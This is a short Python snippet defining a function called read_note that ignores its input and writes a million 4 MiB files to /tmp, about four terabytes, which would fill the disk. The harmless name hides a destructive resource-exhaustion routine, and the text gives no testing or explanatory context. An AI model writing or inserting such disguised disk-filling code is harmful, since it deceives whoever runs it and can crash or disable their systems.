def read_note(name):
    for i in range(10**6):
        open(f'/tmp/{i}', 'wb').write(bytes(1 << 22))
